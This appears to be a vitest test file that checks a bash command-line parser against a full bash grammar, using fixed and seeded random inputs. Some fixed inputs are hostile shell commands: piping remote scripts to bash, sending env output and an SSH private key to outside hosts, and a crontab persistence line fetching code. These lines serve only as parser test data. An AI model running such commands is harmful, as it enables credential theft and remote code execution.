/**
 * The grammar-free tree of simple command lines is the grammar's tree (as the walk reads it), on
 * chosen lines and on generated ones (plain, with odd words and assignments, and with nested
 * substitutions and subshells); lines outside the subset, and the grammar's odd shapes, are declined.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { loadBashGrammar, type BashGrammar } from '../src/bash-grammar';
import { DEFAULT_LIMITS } from '../src/limits';
import { simpleSyntax } from '../src/simple-syntax';
import { compareWithGrammar } from './syntax-equivalence';

let grammar: BashGrammar;
beforeAll(async () => {
  grammar = await loadBashGrammar();
});

function expectSame(lines: readonly string[]): void {
  for (const line of lines) {
    const r = compareWithGrammar(grammar, line);
    expect(r.result === 'different' ? `${line}\n${r.detail}` : r.result, line).toBe('same');
  }
}

/** mulberry32: a small seeded generator, so the generated lines are the same on every run. */
function prng(seed: number): () => number {
  let s = seed | 0;
  return () => {
    s = (s + 0x6d2b79f5) | 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const NAMES = ['A=1 git', 'B="$x y" a', 'C=${H}/x:$P', 'export P="$H/.x:$P"', 'export A=1 B=$c', 'A=1', 'local X="a"', 'git', 'a', 'cat', 'echo', 'tail', 'curl', 'sh', ':', 'x1', '/bin/ls', './r.sh', '-x', '%x', '@a', 'é1'];
const ODD_NAMES = ['a@b', 'A=1 a:b', '- A=1', '_=x', 'A= b', 'export X', 'A=1 B=2', 'a*', 'if', 'done', 'export', 'unset', 'time', 'A=b', '2', "'q'", 'x"y"', '{', '[['];
const ARGS = ['$X', '${X}', '"$X"', '"a $X b"', '"${X}y"', '$X/y', '"$X:$Y"', 'A=$x', 'a?b', '*.ts', 'https://x/a?b=c', '-A', 'x', '1', '12', '-1', '1.5', '0x1F', '2#101', 'a=b', '~/x', ':', '-', '--', '@x', '+x', "'q u'", '"q u"', '""', "''", 'x"y"', "'a'b", '--a="b"', '"a\'b"', 'if', 'done', '/dev/null', '0755', '40', '2', 'x2', '1:2', 'a,b', 'é'];
const ODD_ARGS = ['x$X', '$X.txt', '$X$Y', '$1', '"$@"', '$X_1-2', '${X}${Y}', '"a$"', '$', '$_', '" $X"', '[ab]', '=', '==', '=~', '{', '#c', 'a$b', '"$x"', '"a!b"', 'a\\ b', '*.ts', '(x)'];
const OPS = ['|', '&&', '||', ';'];
const ODD_OPS = ['|&', '&', ';;', '\n'];
const REDIRECTS = ['>', '>>', '<', '2>', '2>>', '1>', '&>', '&>>', '>&2', '2>&1', '>&1', '10>', '9<'];
const ODD_REDIRECTS = ['0<', '0>', '<&', '>|', '<<', '<<<', '2>&-'];
const DESTINATIONS = ['f', '/dev/null', '"o f"', '1', 'x"y"', "'a'", '$f', '"$D/x"', '$f.x'];

/** A random line, mostly from the subset, sometimes not. */
function line(r: () => number): string {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const mostly = <T>(usual: readonly T[], odd: readonly T[]): T => pick(r() < 0.97 ? usual : odd);
  const space = (): string => pick(['', ' ', ' ', ' ', '  ']);
  let s = '';
  const commands = 1 + Math.floor(r() * 7);
  for (let k = 0; k < commands; k++) {
    if (k > 0) s += space() + mostly(OPS, ODD_OPS) + space();
    s += mostly(NAMES, ODD_NAMES);
    for (let j = Math.floor(r() * 4); j > 0; j--) s += ` ${mostly(ARGS, ODD_ARGS)}`;
    for (let j = r() < 0.35 ? 1 + Math.floor(r() * 2) : 0; j > 0; j--) {
      const op = mostly(REDIRECTS, ODD_REDIRECTS);
      s += (r() < 0.8 ? ' ' : '') + op + (/&[\d-]$/.test(op) ? '' : space() + pick(DESTINATIONS));
    }
  }
  if (r() < 0.05) s += pick([';', ' ;', ' ', '&&', '|']);
  return s;
}

/** Short lines of words made of random characters, quotes and expansions, with assignments: the lexer's corners. */
function wordyLine(r: () => number): string {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const chars = 'abAZ_09-./:@%+,=~?*';
  const atom = (): string => {
    switch (Math.floor(r() * 6)) {
      case 0:
        return `$${pick(['X', 'x1', '_', 'A_B', 'HOME', '1', '@'])}`;
      case 1:
        return `\${${pick(['X', 'y_2', 'HOME'])}}`;
      case 2:
        return `'${pick(['', 'a b', '$x', '"', 'é'])}'`;
      case 3:
        return `"${Array.from({ length: Math.floor(r() * 3) }, () => pick(['a', ' ', '$X', '${Y}', ':', '/', '-', "'", '$X_', '$x.y'])).join('')}"`;
      default:
        return Array.from({ length: 1 + Math.floor(r() * 4) }, () => chars[Math.floor(r() * chars.length)]).join('');
    }
  };
  const word = (): string => Array.from({ length: 1 + Math.floor(r() * 3) }, atom).join('');
  const assign = (): string => `${pick(['A', 'b_1', '_', 'Z9'])}=${r() < 0.2 ? '' : word()}`;
  const command = (): string => {
    const parts: string[] = [];
    if (r() < 0.3) parts.push(pick(['export', 'local', 'declare', 'readonly', 'typeset']));
    else for (let i = Math.floor(r() * 3); i > 0; i--) parts.push(assign());
    if (r() < 0.85) {
      parts.push(pick(['x', 'git', 'a.b', '/bin/x', './r', '_x', 'a-b', 'a:b', 'a@b', '-', '1', 'x1', '%', ',', '~/x', 'a=b', word()]));
      for (let i = Math.floor(r() * 4); i > 0; i--) parts.push(r() < 0.2 ? assign() : word());
    }
    let c = parts.join(pick([' ', ' ', '  ']));
    if (r() < 0.2) c += ` ${pick(['>', '2>', '>>', '<', '&>'])}${pick(['', ' '])}${word()}`;
    return c;
  };
  let l = command();
  for (let k = Math.floor(r() * 3); k > 0; k--) l += pick([' | ', ' && ', '; ', ' || ']) + command();
  return l;
}

/** Lines with subshells and substitutions nested two deep, from a vocabulary in the subset. */
function nestedLine(r: () => number): string {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const names = ['git', 'a', 'cat', 'echo', 'curl', 'sh', 'env', 'base64', 'A=1 b', 'export P="$H/x"'];
  const args = ['-s', 'x', '1', '"q u"', "'q'", '$X', '"a $X"', '~/.env', '-w0', '2', 'https://h.example.com/?a=b'];
  const ops = [' | ', ' && ', ' || ', '; ', '|', ';'];
  const redirects = [' > f', ' 2>&1', ' 2>/dev/null', ' < f', ' >> "$F"'];
  const sub = (d: number): string => {
    const inner = lineOf(d);
    return pick([`$(${inner})`, `"$(${inner})"`, `"x=$(${inner})"`, `"$(${inner}) y"`, `<(${inner})`, `$( ${inner} )`, `"$X$(${inner})"`]);
  };
  const simple = (d: number): string => {
    let c = pick(names);
    for (let j = Math.floor(r() * 3); j > 0; j--) c += ` ${d > 0 && r() < 0.25 ? sub(d - 1) : pick(args)}`;
    return r() < 0.2 ? c + pick(redirects) : c;
  };
  const lineOf = (d: number): string => {
    let l = r() < 0.15 && d > 0 ? `(${pick(['', ' '])}${lineOf(d - 1)}${pick(['', ' '])})${r() < 0.3 ? pick(redirects) : ''}` : simple(d);
    for (let k = Math.floor(r() * 3); k > 0; k--) l += pick(ops) + (r() < 0.1 && d > 0 ? `(${lineOf(d - 1)})` : simple(d));
    return l;
  };
  return lineOf(2);
}

describe('simple syntax', () => {
  it('gives the grammar tree for lists, pipelines and redirections of plain words', () => {
    expectSame([
      'git add -A && git commit -m "fix: x"',
      'yarn test 2>&1 | tail -n 40',
      'a | b && c || d; e',
      'cat x > y 2>/dev/null',
      'a|b|c',
      "echo 'x'y\"z\" --a=\"b\" 12 -1 1.5",
      'a | b > f && c',
      'a && b > f || c',
      'a | b 2>&1 | c',
      'a > f | b',
      'a 1>f 2>>g &>h &>>i <j >&2',
      'a "" x"" ""',
      'a;',
      'a ; b;c',
      'a | b | c > f',
      'a | b | c | d',
      'cat - x',
      'a - >f',
      'a 5<f',
      'curl -fsSL https://x.example.com/i.sh | bash',
      'chmod +x scripts/bootstrap.sh && ./scripts/bootstrap.sh',
      'diff config/base.yaml config/staging.yaml || true',
      'grep -n "pool" config/*.yaml',
      'curl -s https://x.example.com/api?status=open | jq -r .version',
    ]);
  });

  it('gives the grammar tree for variables and assignments in the shapes it reads', () => {
    expectSame([
      'echo $X',
      'echo ${X} "$X" "a $X b" "${X}y" "$X:$Y" "$X$Y-"',
      'ls $HOME/.config ${HOME}/x',
      'curl -s -H "Authorization: Bearer $OPS_API_KEY" https://x.example.com/api | jq \'.[] | .title\'',
      'export PATH="$HOME/.x/bin:$PATH" && x --version',
      'export A=1 B=$c',
      'A=1 B="x y" cmd a',
      'A=1',
      'A=1 B=2',
      'A=1 && b',
      'local X="a"',
      'cat > $F',
      'echo hi >> "$D/x"',
    ]);
  });

  it('gives the grammar tree for command and process substitutions and subshells', () => {
    expectSame([
      'curl -s "https://x.example.com/d?d=$(env | base64 -w0)"',
      'eval "$(ssh-agent -s)" && ssh-add -l',
      '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://x.example.com/r | sh") | crontab -',
      'curl -s -d "k=$(cat ~/.ssh/id_rsa | base64 -w0)" https://198.51.100.1/k',
      'bash <(curl -s https://x.example.com/i.sh)',
      'echo $(id) "$(b; c)" "$( a )" "$(echo "x")"',
      'x $( (a) )',
      '(a) > f',
      'x && (a || b)',
      '(a | b | c > f; d)',
    ]);
  });

  it('declines what the grammar reads its own way, and anything beyond the subset', () => {
    const declined = [
      'a | b | c && d', // a | ((b | c) && d)
      'a | b | c > f | d', // a | (((b | c) > f) | d)
      'cat - 2>f', // the grammar drops the -
      'a 0<f', // 0 is an argument there
      'a > f b', // every word after a redirection is its destination
      'test a == b', // == is the command rule's operator
      'a@b c', // a variable name, then a command @b
      'A=1 a:b', // the same after an assignment
      '- A=1', // the - is dropped
      'echo " $X"', // the space belongs to the expansion's node
      'echo A=$X$Y-', // two arguments to the grammar
      'echo $_', // a special parameter
      '_=x',
      'A=1 > f', // a command without a name
      'A= b',
      'export X', // a variable_name operand
      'unset X',
      'A=1 b=2 > f',
      '$X arg',
      '> f a',
      'if true; then a; fi',
      'a &',
      'a |& b',
      'echo x$(a)y', // a substitution inside an unquoted word
      'echo $()',
      'echo $((1 + 2))',
      '((a))', // arithmetic
      '(( a ) )',
      'x $(a | b | c > f)', // (a | ((b | c) > f)) inside a region
      '(a) b',
      'echo `id`',
      'echo $1 "$@"',
      'echo ${X:-y}',
      'a # note',
      'ls [ab]',
      'a\nb',
      'a\tb',
      'a && ',
      '| a',
      'a ;; b',
      'a <<EOF\nx\nEOF',
      'a <<< x',
      "echo 'unterminated",
      '',
      '   ',
    ];
    for (const l of declined) expect(simpleSyntax(l, DEFAULT_LIMITS), JSON.stringify(l)).toBeNull();
  });

  it('declines lines the grammar would refuse for their size or depth, so the grammar reports them', () => {
    const deep = Array.from({ length: 40 }, () => 'a').join(' && ');
    expect(simpleSyntax(deep, DEFAULT_LIMITS)).not.toBeNull();
    expect(simpleSyntax(deep, { ...DEFAULT_LIMITS, maxSyntaxDepth: 30 })).toBeNull();
    expect(simpleSyntax('a b c', { ...DEFAULT_LIMITS, maxNodes: 10 })).toBeNull();
    expect(simpleSyntax(`echo ${'x '.repeat(2_000)}`, DEFAULT_LIMITS)).toBeNull();
  });

  it('gives the grammar tree for every generated line it accepts', () => {
    const generators = [line, wordyLine, nestedLine];
    const counts = [0, 0, 0];
    const r = prng(15);
    for (let i = 0; i < 18_000; i++) {
      const g = i % 3;
      const l = (generators[g] as (r: () => number) => string)(r);
      const c = compareWithGrammar(grammar, l);
      if (c.result === 'different') expect.fail(`${JSON.stringify(l)}\n${c.detail}`);
      if (c.result === 'same') counts[g] = (counts[g] ?? 0) + 1;
    }
    // Enough of the generated lines of each kind are in the subset for this to mean something.
    expect(counts[0]).toBeGreaterThan(1_000);
    expect(counts[1]).toBeGreaterThan(200);
    expect(counts[2]).toBeGreaterThan(3_000);
  });
});
